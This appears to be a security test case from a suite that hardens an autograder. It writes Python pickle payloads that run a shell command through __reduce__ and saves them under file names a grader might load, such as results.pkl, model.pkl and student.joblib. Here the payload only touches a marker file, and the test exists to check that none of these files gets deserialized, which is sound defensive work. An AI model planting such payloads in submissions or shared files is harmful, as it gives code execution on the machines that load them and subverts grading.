# id: F50
# technique: pickle, dill, joblib and npz files under the names that graders load
# must not: one is loaded
# stops: no such format is read by the grader
# layers: none

# %%
import os, pickle
class Run:
    def __reduce__(self): return os.system, ("touch @OUTSIDE@/@MARK@",)
for name in ("results.pkl", ".OTTER_LOG", "model.pkl", "submission.dill", "weights.npz", "student.joblib"):
    with open(name, "wb") as file:
        pickle.dump(Run(), file)
np.save("objects.npy", np.array([Run()], dtype=object), allow_pickle=True)
